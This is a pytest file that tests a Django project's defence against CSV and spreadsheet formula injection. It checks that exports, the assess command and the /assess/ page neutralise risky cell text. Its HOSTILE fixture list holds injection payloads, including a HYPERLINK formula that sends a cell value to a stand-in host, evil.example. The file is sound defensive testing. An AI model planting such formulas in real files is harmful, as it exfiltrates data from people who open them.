"""Formula injection (issue 12): a name such as `=HYPERLINK(…)`, `=1+1` or `@SUM(…)` is
text in every CSV and workbook we hand out — CLI exports, `kechuang assess` (csv and
xlsx), the /assess/ result, the lists and error workbooks — and still imports back as
it was. Numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from openpyxl import load_workbook

from kechuang.core import imports
from kechuang.core.tabular import read_table, write_error_workbook, write_rows_csv, write_rows_xlsx
from kechuang.rules.cells import csv_cell, safe_text, unneutralise
from kechuang.rules.cli import main as assess_main
from tests.assessments.test_services import H1
from tests.conftest import make_enterprise, new_uscc

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=1+1",
    "@SUM(A1:A9)",
    "+86-523-1234",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def formulas_in(data: bytes) -> list[str]:
    """Every sheet part of a workbook that holds a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f" in z.read(n)]


@pytest.mark.nodb
@pytest.mark.parametrize("text", HOSTILE)
def test_a_dangerous_text_gets_an_apostrophe_and_loses_it_on_reading(text: str) -> None:
    assert safe_text(text) == "'" + text
    assert unneutralise(safe_text(text)) == text


@pytest.mark.nodb
def test_numbers_stay_numbers_and_plain_text_is_untouched() -> None:
    assert csv_cell(Decimal("-12.5")) == Decimal("-12.5")
    assert csv_cell(-3) == -3 and csv_cell(-0.5) == -0.5
    assert csv_cell(True) == "是" and csv_cell(None) == ""
    assert csv_cell("泰兴市某某有限公司") == "泰兴市某某有限公司"
    assert csv_cell("") == "" and csv_cell("a=b") == "a=b"


@pytest.mark.nodb
def test_csv_rows_are_neutralised_and_read_back() -> None:
    out = io.StringIO()
    write_rows_csv(out, ["名称", "金额"], [[t, Decimal("-1.5")] for t in HOSTILE])
    cells = list(csv.reader(io.StringIO(out.getvalue())))
    assert [r[0] for r in cells[1:]] == ["'" + t for t in HOSTILE]
    assert {r[1] for r in cells[1:]} == {"-1.5"}  # a negative number is not text
    table = read_table(out.getvalue().encode(), "x.csv")
    assert [r[0] for _, r in table.rows] == HOSTILE


@pytest.mark.nodb
def test_xlsx_cells_are_strings_never_formulas() -> None:
    buf = io.BytesIO()
    write_rows_xlsx(buf, ["名称", "金额"], [[t, -2] for t in HOSTILE])
    assert formulas_in(buf.getvalue()) == []
    ws = load_workbook(io.BytesIO(buf.getvalue())).active
    assert {c.data_type for c in ws["A"][1:]} == {"s"}
    assert {c.value for c in ws["B"][1:]} == {-2}
    table = read_table(buf.getvalue(), "x.xlsx")
    assert [r[0] for _, r in table.rows] == HOSTILE


@pytest.mark.nodb
def test_the_error_workbook_keeps_uploaded_text_as_text() -> None:
    text = "\n".join(["名称,金额", *(f'"{t}",1' for t in HOSTILE[1:3])]).encode()
    table = read_table(text, "x.csv")
    buf = io.BytesIO()
    write_error_workbook(buf, table, {2: ["名称: 有误"]})
    assert formulas_in(buf.getvalue()) == []


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_enterprise_named_like_a_formula_exports_as_text_and_reimports_unchanged(
    staff: Any, regions: Any, tmp_path: Path, fmt: str
) -> None:
    for i, name in enumerate(HOSTILE[:4]):
        make_enterprise(staff, regions["park_a"], f"{name}{i}")
    out = tmp_path / f"enterprises.{fmt}"
    call_command("export", "enterprises", str(out), "--user", staff.username)
    data = out.read_bytes()
    if fmt == "csv":
        text = data.decode("utf-8-sig")
        assert "'=HYPERLINK" in text and "'=1+1" in text and "'@SUM" in text and "'+86" in text
    else:
        assert formulas_in(data) == []
    plan = imports.import_run(
        actor=staff, kind="enterprises", data=data, filename=out.name, commit=False
    )
    assert plan.errors == [] and plan.counts["unchanged"] == plan.counts["rows"] >= 4


def _assess_input(tmp_path: Path) -> Path:
    src = tmp_path / "in.csv"
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(H1))
    writer.writeheader()
    for i, name in enumerate(HOSTILE[:3]):
        writer.writerow({**H1, "name": name, "uscc": H1["uscc"] if i == 0 else new_uscc()})
    src.write_text(buf.getvalue(), encoding="utf-8")
    return src


@pytest.mark.nodb
def test_assess_csv_and_xlsx_write_names_as_text(tmp_path: Path) -> None:
    src = _assess_input(tmp_path)
    out_csv, out_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert assess_main(["assess", str(src), "--format", "csv", "--out", str(out_csv)]) == 0
    names = [r["name"] for r in csv.DictReader(io.StringIO(out_csv.read_text("utf-8-sig")))]
    assert set(names) == {"'" + t for t in HOSTILE[:3]}
    assert assess_main(["assess", str(src), "--format", "xlsx", "--out", str(out_xlsx)]) == 0
    data = out_xlsx.read_bytes()
    assert formulas_in(data) == []
    ws = load_workbook(io.BytesIO(data))["结果"]
    assert {r[1] for r in ws.iter_rows(min_row=2, values_only=True)} == set(HOSTILE[:3])


@pytest.mark.django_db
def test_the_assess_page_result_has_no_formulas(
    client_for: Any, enterprise_user: Any, tmp_path: Path
) -> None:
    src = _assess_input(tmp_path)
    response = client_for(enterprise_user).post(
        "/assess/", {"file": SimpleUploadedFile("in.csv", src.read_bytes())}
    )
    assert response.status_code == 200
    assert formulas_in(response.content) == []
    ws = load_workbook(io.BytesIO(response.content))["结果"]
    assert {r[1] for r in ws.iter_rows(min_row=2, values_only=True)} == set(HOSTILE[:3])
